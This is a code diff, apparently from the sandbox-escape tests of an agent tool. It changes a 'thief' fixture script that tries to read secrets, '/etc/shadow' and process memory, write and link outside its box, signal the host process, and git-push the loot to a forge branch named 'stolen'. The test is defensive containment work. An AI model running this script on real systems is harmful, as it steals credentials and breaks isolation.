@@ -40,8 +40,11 @@ export const doorsOf = (product: Product, otherRun: string): Doors => ({
   run: otherRun,
 });
 
+/** What it writes wherever it can. */
+export const MARK = 'mark-of-the-thief';
+
 /** Runs inside the box, so it has nothing of ours to import. */
-const steals = String.raw`
+const steals = `const MARK = '${MARK}';\n${String.raw`
 import fs from 'node:fs'; import net from 'node:net'; import http from 'node:http';
 import { spawnSync } from 'node:child_process'; import path from 'node:path';
 const d = JSON.parse(fs.readFileSync('doors.json', 'utf8'));
@@ -60,7 +63,7 @@ const loot = {
   files: could([...secrets, d.dir + '/agentpr.config.json', d.dir + '/.env', d.other + '/ws/README.md', d.other + '/git/HEAD', '/etc/shadow', '/proc/' + d.pid + '/mem'],
     (at) => { if (fs.readFileSync(at).length === 0) throw new Error('empty') }),
   listed: quiet(() => fs.readdirSync(d.dataDir), []).concat(quiet(() => fs.readdirSync(d.dataDir + '/runs'), [])),
-  written: could(outside, (at) => fs.appendFileSync(at, 'x')),
+  written: could(outside, (at) => fs.appendFileSync(at, MARK)),
   linked: [],
   signalled: could([d.pid, process.ppid === 1 ? d.pid : -1].filter((p) => p > 1), (pid) => process.kill(pid, 0)),
   debugged: could([d.pid], (pid) => fs.openSync('/proc/' + pid + '/mem', 'r+')),
@@ -70,7 +73,9 @@ for (const at of secrets) {
   const name = path.basename(at);
   quiet(() => fs.symlinkSync(at, 'soft-' + name)); quiet(() => fs.linkSync(at, 'hard-' + name));
   for (const link of ['soft-' + name, 'hard-' + name]) {
-    if (quiet(() => (fs.appendFileSync(link, ''), fs.readFileSync(link).length), 0) > 0) loot.linked.push(link);
+    const held = quiet(() => (fs.appendFileSync(link, ''), fs.readFileSync(link, 'latin1')), '');
+    // Its own words, in a /tmp of its own, are no loot.
+    if (held !== '' && held !== MARK) loot.linked.push(link);
     quiet(() => fs.unlinkSync(link));
   }
 }
@@ -95,7 +100,7 @@ spawnSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@y', 'commit', '-qam',
 const pushed = spawnSync('git', ['push', d.forge + '/acme/thief.git', 'HEAD:refs/heads/stolen'], { encoding: 'utf8', timeout: 20000 });
 loot.push = { code: pushed.status, said: pushed.stderr };
 console.log('LOOT ' + JSON.stringify(loot));
-`;
+`}`;
 
 export const thief = (doors: Doors) => ({
   base: { 'steals.mjs': steals, 'doors.json': JSON.stringify(doors) },
